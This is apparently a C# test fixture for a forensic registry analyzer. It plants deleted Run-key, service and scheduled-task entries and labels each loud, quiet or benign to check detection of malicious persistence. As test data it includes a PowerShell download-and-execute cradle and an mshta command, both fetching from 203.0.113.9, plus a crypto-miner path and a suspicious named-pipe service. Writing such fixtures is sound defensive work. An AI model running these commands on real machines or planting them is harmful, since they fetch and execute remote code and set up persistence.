using Forensics.Analyzer.Risk;
using Forensics.Parsers.Tests.Formats.Registry;
using static Forensics.Analyzer.Tests.Detection.WindowsStockHives;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Entries of the registry that were there and were deleted: what was bad is told, what updates and uninstallers leave behind is not.</summary>
internal static class WindowsDeletedPlants
{
    private const string Cradle = @"powershell.exe -NoP -W Hidden -c ""IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')""";
    private const string UserRun = @"Software\" + Cv + "Run";
    private const string Kernel = @"C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{11111111-2222-3333-4444-555555555555}\MpKslDrv.sys";

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-RUN", "loud-deleted-value", PlantKind.Loud, tree => Hives(tree, user: hive => Gone(hive, hive.Key(UserRun).Text("Updater", Cradle)))) { Rule = "deleted", AtLeast = Severity.Medium },
            new("W-RUN", "loud-deleted-key", PlantKind.Loud, tree => Hives(tree, software: hive => hive.Delete(hive.Key(@"Wow6432Node\" + Cv + "Run").Text("Updater", "mshta http://203.0.113.9/x.hta")))) { Rule = "deleted", AtLeast = Severity.Medium },
            new("W-RUN", "quiet-deleted-odd-place", PlantKind.Quiet, tree => Hives(tree, software: hive => hive.Delete(hive.Key(Cv + @"Policies\Explorer\Run").Text("Updater", @"C:\Users\Public\upd.exe -s")))) { Rule = "deleted", AtLeast = Severity.Medium, Entries = [Software] },
            new("W-RUN", "quiet-deleted-miner", PlantKind.Quiet, tree => Hives(tree, user: hive => Gone(hive, hive.Key(UserRun).Text("Updater", @"C:\Users\alice\AppData\Roaming\xmrig.exe -c a.json")))) { Rule = "deleted", AtLeast = Severity.Medium, Entries = [User] },
            new("W-RUN", "benign-deleted-entries", PlantKind.Benign, tree => Hives(tree, software: hive =>
            {
                // What installers and uninstallers leave behind.
                hive.Delete(hive.Key(@"Wow6432Node\" + Cv + "RunOnce").Text("wextract_cleanup0", @"rundll32.exe C:\Windows\system32\advpack.dll,DelNodeRunDLL32 ""C:\Users\alice\AppData\Local\Temp\IXP000.TMP\""")
                    .Text("{6D7F0D1C}", "\"C:\\ProgramData\\Package Cache\\{6D7F0D1C-1111-2222-3333-444444444444}\\vcredist_x64.exe\" /burn.runonce").Text("setup", @"C:\Users\alice\AppData\Local\Temp\is-1.tmp\setup.exe /resume"));
                hive.Delete(hive.Key(Cv + @"Policies\Explorer\Run").Text("Vendor", "\"C:\\Program Files\\Vendor\\tray.exe\" -min"));
                Gone(hive, hive.Key(Cv + "Run").Text("AdobeAAMUpdater-1.0", "\"C:\\Program Files (x86)\\Common Files\\Adobe\\OOBE\\PDApp\\UWA\\UpdaterStartupUtility.exe\""));
            }, user: hive =>
            {
                hive.Key(@"Software\" + Cv + "RunOnce").Text("Kept", @"C:\Windows\system32\cmd.exe /q /c del /q ""C:\Users\alice\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe""").Text("Delete Cached Update Binary", @"C:\Windows\system32\cmd.exe /q /c rmdir /s /q ""C:\Users\alice\AppData\Local\Microsoft\OneDrive\23.1\amd64""");
                hive.DeleteLastValue(hive.Key(@"Software\" + Cv + "RunOnce"));
                Gone(hive, hive.Key(UserRun).Text("com.squirrel.Teams.Teams", @"C:\Users\alice\AppData\Local\Microsoft\Teams\Update.exe --processStart ""Teams.exe"" --process-start-args ""--system-initiated"""));
            })),
            new("W-SERVICE", "loud-deleted-shell", PlantKind.Loud, tree => Hives(tree, hive => hive.Delete(Service(hive, "qwrtzupk", @"%COMSPEC% /c echo qwrtzupk > \\.\pipe\qwrtzupk", start: 3)))) { Rule = "deleted", AtLeast = Severity.Medium },
            new("W-SERVICE", "quiet-deleted-odd-place", PlantKind.Quiet, tree => Hives(tree, hive => hive.Delete(Service(hive, "WinUpdateSvc", @"C:\Users\Public\svc.exe -k netsvcs")))) { Rule = "deleted", AtLeast = Severity.Medium, Entries = [SystemFile] },
            new("W-SERVICE", "quiet-deleted-library", PlantKind.Quiet, tree => Hives(tree, hive =>
            {
                WrittenKey service = Service(hive, "WinUpdateSvc", @"%SystemRoot%\system32\svchost.exe -k netsvcs", type: 0x20);
                service.Key("Parameters").Expandable("ServiceDll", @"C:\ProgramData\Vendor\host.dll");
                hive.Delete(service);
            })) { Rule = "deleted", AtLeast = Severity.Medium, Entries = [SystemFile] },
            new("W-SERVICE", "benign-deleted-services", PlantKind.Benign, tree => Hives(tree, hive =>
            {
                hive.Delete(Service(hive, "MpKslDrv", @"\??\" + Kernel, start: 1, type: 1));
                hive.Delete(Service(hive, "GPU-Z", @"\??\C:\Users\alice\AppData\Local\Temp\GPU-Z.sys", start: 3, type: 1));
                hive.Delete(Service(hive, "PSEXESVC", @"%SystemRoot%\PSEXESVC.exe", start: 3));
                hive.Delete(Service(hive, "VendorUpdate", "\"C:\\Program Files (x86)\\Vendor\\Update\\update.exe\" /svc"));
                WrittenKey shared = Service(hive, "OldSvc", @"%SystemRoot%\system32\svchost.exe -k netsvcs", type: 0x20);
                shared.Key("Parameters").Expandable("ServiceDll", @"%SystemRoot%\System32\oldsvc.dll");
                hive.Delete(shared);
            })),
            new("W-TASK", "loud-deleted-task", PlantKind.Loud, tree => Hives(tree, software: hive => GoneTask(hive, "Update", ExecAction("powershell.exe", Cradle[15..])))) { Rule = "deleted", AtLeast = Severity.Medium },
            new("W-TASK", "quiet-deleted-task", PlantKind.Quiet, tree => Hives(tree, software: hive => GoneTask(hive, "Update", ExecAction("wscript.exe", @"C:\Users\Public\u.vbs //B")))) { Rule = "deleted", AtLeast = Severity.Medium, Entries = [Software] },
            new("W-TASK", "benign-deleted-task", PlantKind.Benign, tree => Hives(tree, software: hive => GoneTask(hive, "VendorUpdate", ExecAction(@"C:\Program Files\Vendor\update.exe", "/ua /installsource scheduler")))),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    // A key that stays keeps a value, as Run keys do.
    private static void Gone(RegistryHiveWriter hive, WrittenKey key) => hive.DeleteLastValue(key);

    private static void GoneTask(RegistryHiveWriter hive, string name, byte[] action)
    {
        Register(hive, "Kept", enabled: true, ExecAction(@"%windir%\system32\defrag.exe", "-c"));
        Register(hive, name, enabled: true, action);
        hive.Delete(TreeKey(hive, name));
        hive.Delete(TaskKey(hive, name));
        hive.Delete(hive.Key(TaskCache + @"Plain\" + TaskId(name)));
    }
}
